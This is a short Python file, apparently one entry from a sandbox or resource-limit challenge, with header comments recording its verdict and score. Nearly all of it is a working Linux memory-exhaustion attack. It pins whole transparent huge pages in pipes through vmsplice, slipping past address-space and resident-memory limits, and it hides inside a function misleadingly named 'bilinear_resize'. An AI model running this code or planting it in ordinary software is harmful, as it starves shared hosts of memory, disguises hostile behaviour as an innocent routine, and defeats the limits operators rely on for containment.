# verdict: crashed or error or wrong in every check  - seven gibibytes in fourteen pipes
# tries: of a huge page, one small page is put into a pipe with vmsplice, and the huge page is unmapped: the pipe keeps all
#        of it. No limit counts it, neither on address space nor on what is resident. Where pipes are refused, nothing.
# seen: ours (issue 13, row 5)
# points: 0
import ctypes
import fcntl
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
LIBC.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
LIBC.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
HUGE = 2 << 20


class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def fill():
    _, writing = os.pipe()
    try:
        fcntl.fcntl(writing, 1031, 1 << 20)  # F_SETPIPE_SZ
    except OSError:
        pass
    os.set_blocking(writing, False)
    got = 1
    while got > 0:
        area = LIBC.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
        start = (area + HUGE - 1) & -HUGE
        LIBC.madvise(start, HUGE, 14)
        ctypes.memset(start, 1, 1)
        got = LIBC.vmsplice(writing, ctypes.byref(Vec(start, 4096)), 1, 2)
        LIBC.munmap(area, 2 * HUGE)


def bilinear_resize(image, out):
    for _ in range(14):
        fill()
